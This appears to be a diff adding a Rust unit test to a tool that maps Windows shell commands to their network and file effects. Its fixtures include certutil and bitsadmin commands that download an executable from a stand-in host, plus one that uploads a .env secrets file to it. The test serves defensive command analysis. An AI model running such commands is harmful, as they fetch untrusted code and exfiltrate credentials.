@@ -254,3 +254,41 @@ fn web_servers_grant_their_folder_to_the_network() {
         assert_eq!(granted(line), Vec::<String>::new(), "{line}");
     }
 }
+
+#[test]
+fn windows_transfer_tools_download_and_upload() {
+    table(&[
+        (
+            "certutil -urlcache -split -f http://x.example/a.exe a.exe",
+            &[
+                "run certutil -urlcache -split -f http://x.example/a.exe a.exe",
+                "send http://x.example/a.exe GET []",
+                "write a.exe",
+            ],
+        ),
+        (
+            "bitsadmin /transfer job /download /priority normal https://x.example/a.exe C:/t/a.exe",
+            &[
+                "run bitsadmin /transfer job /download /priority normal https://x.example/a.exe C:/t/a.exe",
+                "send https://x.example/a.exe GET []",
+                "write C:/t/a.exe",
+            ],
+        ),
+        (
+            "bitsadmin /transfer job /upload https://x.example/u .env",
+            &[
+                "run bitsadmin /transfer job /upload https://x.example/u .env",
+                "read .env",
+                "send https://x.example/u PUT [file .env]",
+            ],
+        ),
+        (
+            "certutil -hashfile a.zip SHA256",
+            &["run certutil -hashfile a.zip SHA256"],
+        ),
+        (
+            "bitsadmin /list /allusers",
+            &["run bitsadmin /list /allusers"],
+        ),
+    ]);
+}
